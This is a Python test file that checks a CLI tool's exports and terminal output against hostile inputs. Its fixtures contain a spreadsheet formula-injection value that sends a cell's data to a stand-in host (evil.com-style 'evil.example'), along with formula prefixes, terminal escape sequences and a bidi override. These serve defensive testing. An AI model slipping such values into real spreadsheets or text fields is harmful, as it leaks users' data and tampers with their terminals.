"""Nothing in the inputs leaks out as something else: a formula, an escape sequence, a reversed line.

- Text exported to a spreadsheet stays text: the workbook stores strings as
  strings, and CSV neutralises formula prefixes the OWASP way.
- What the command line prints from a file (source texts in check hints,
  snapshots in diff, build/ in list) shows control characters as escapes.
(Control and bidirectional characters in the inputs themselves are refused:
see the yaml-escape-* and bidi-* cases in tests/bad_inputs/.)
"""

from __future__ import annotations

import copy
import csv
import io
import json
import os
import zipfile
from collections.abc import Iterator
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from tests.builders import SOURCE_A, base_inputs, write_project
from tests.conftest import AS_OF
from thesis.cli import cli
from thesis.outputs.export import csv_safe
from thesis.terminal import CONTROL, printable

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
HOSTILE_TITLES = [HYPERLINK, "+1+1", "-2+3", "@SUM(1,2)", "\tindented", "=1+1"]


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[Path]:
    inputs = copy.deepcopy(base_inputs())
    points = inputs["points"]["points"]
    points[0]["title"] = HYPERLINK
    points[1]["title"] = "@SUM(1,2)"
    inputs["sources"]["sources"][0]["title"] = "-2+3"
    inputs["company"]["company"]["name"] = "=1+1"
    write_project(tmp_path, inputs)
    old = Path.cwd()
    os.chdir(tmp_path)
    yield tmp_path
    os.chdir(old)


def test_xlsx_stores_every_text_as_text_never_a_formula(hostile: Path) -> None:
    out = hostile / "out.xlsx"
    result = CliRunner().invoke(cli, ["export", "acme", "--as-of", AS_OF.isoformat(), "--out", str(out)])
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in sheet or "<f " in sheet for sheet in sheets)
    workbook = openpyxl.load_workbook(out)
    found = {}
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in (HYPERLINK, "@SUM(1,2)", "-2+3", "=1+1"):
                    found[cell.value] = cell.data_type
    assert found == {HYPERLINK: "s", "@SUM(1,2)": "s", "-2+3": "s", "=1+1": "s"}


def test_csv_neutralises_formula_prefixes(hostile: Path) -> None:
    out = hostile / "csv"
    result = CliRunner().invoke(
        cli, ["export", "acme", "--as-of", AS_OF.isoformat(), "--format", "csv", "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    cells = {
        cell
        for name in ("points.csv", "sources.csv", "summary.csv")
        for row in csv.reader(io.StringIO((out / name).read_text(encoding="utf-8")))
        for cell in row
    }
    assert {"'" + HYPERLINK, "'@SUM(1,2)", "'-2+3", "'=1+1"} <= cells
    assert not cells & {HYPERLINK, "@SUM(1,2)", "-2+3", "=1+1"}
    numbers = list(csv.DictReader(io.StringIO((out / "points.csv").read_text(encoding="utf-8"))))
    assert any(row["contribution"].startswith("-") for row in numbers)  # a negative number stays a number


@pytest.mark.parametrize("text", HOSTILE_TITLES + ["\rcarriage"])
def test_csv_safe_prefixes_exactly_the_formula_starts(text: str) -> None:
    assert csv_safe(text) == "'" + text
    assert csv_safe("plain = text") == "plain = text"
    assert csv_safe("") == ""


def test_printable_shows_control_and_bidi_characters_and_keeps_lines() -> None:
    assert printable("a\x1b]0;pwned\x07b\nc\td\u202ee\x9b") == "a\\x1b]0;pwned\\x07b\nc\td\\u202ee\\u009b"


def test_printable_json_is_the_same_json() -> None:
    text = json.dumps({"title": "x\u202e\x9b\x7f\x1b"}, ensure_ascii=False)
    assert "\u202e" in text  # raw: json.dumps with ensure_ascii=False leaves bidi and C1 controls as they are
    assert json.loads(printable(text)) == json.loads(text)
    assert not CONTROL.search(printable(text))


def test_check_shows_a_source_text_escape_sequence_as_text(tmp_path: Path) -> None:
    folder = write_project(tmp_path)
    (folder / "sources" / "alpha.txt").write_text(
        SOURCE_A.replace("grew revenue 40%", "grew \x1b]0;pwned\x07revenue 40%"), encoding="utf-8"
    )
    old = Path.cwd()
    os.chdir(tmp_path)
    try:
        result = CliRunner().invoke(cli, ["check", "acme"])
    finally:
        os.chdir(old)
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b]0;pwned\\x07" in result.output


def test_diff_and_list_show_escape_sequences_from_files_as_text(tmp_path: Path) -> None:
    write_project(tmp_path)
    old = Path.cwd()
    os.chdir(tmp_path)
    try:
        rendered = CliRunner().invoke(cli, ["render", "acme", "--as-of", AS_OF.isoformat(), "--format", "html"])
        assert rendered.exit_code == 0, rendered.output
        path = tmp_path / "build" / "acme" / AS_OF.isoformat() / f"acme-{AS_OF.isoformat()}.json"
        snapshot = json.loads(path.read_text(encoding="utf-8"))
        changed = copy.deepcopy(snapshot)
        changed["points"][0]["title"] = "Retitled \x1b]0;pwned\x07 \u202eevil"
        changed["rating"] = "Buy\x1b[2J"
        (tmp_path / "a.json").write_text(json.dumps(snapshot), encoding="utf-8")
        (tmp_path / "b.json").write_text(json.dumps(changed), encoding="utf-8")
        path.write_text(json.dumps(changed), encoding="utf-8")
        diffed = CliRunner().invoke(cli, ["diff", "a.json", "b.json", "--color"])
        as_json = CliRunner().invoke(cli, ["diff", "a.json", "b.json", "--format", "json"])
        listed = CliRunner().invoke(cli, ["list"])
    finally:
        os.chdir(old)
    assert diffed.exit_code == 1, diffed.output
    assert "\\x1b]0;pwned\\x07" in diffed.output and "\\u202e" in diffed.output
    assert "\x07" not in diffed.output and "\u202e" not in diffed.output and "\x1b[2J" not in diffed.output
    assert "\x1b[3" in diffed.output  # its own colours are still there
    assert as_json.exit_code == 1 and "\u202e" not in as_json.output and "\x1b" not in as_json.output
    parsed = json.loads(as_json.output)  # the data itself is unchanged
    assert parsed["modified"][0]["title"] == "Retitled \x1b]0;pwned\x07 \u202eevil"
    assert listed.exit_code == 0, listed.output
    assert "Buy\\x1b[2J" in listed.output and "\x1b" not in listed.output


def test_every_text_field_of_every_model_refuses_control_characters() -> None:
    """The refusal lives in the base model, so a text field added later is covered without a special type."""
    from pydantic import ValidationError

    from thesis.inputs.models import ProjectFile

    with pytest.raises(ValidationError, match=r"U\+001B \(ESC\)"):
        ProjectFile.model_validate({"disclaimer": "Not advice.\x1b]0;x\x07"})
    with pytest.raises(ValidationError, match=r"U\+202E \(RIGHT-TO-LEFT OVERRIDE\)"):
        ProjectFile.model_validate({"desk": "Desk \u202e"})
    assert ProjectFile.model_validate({"disclaimer": "Line one.\nLine\ttwo."}).disclaimer == "Line one.\nLine\ttwo."
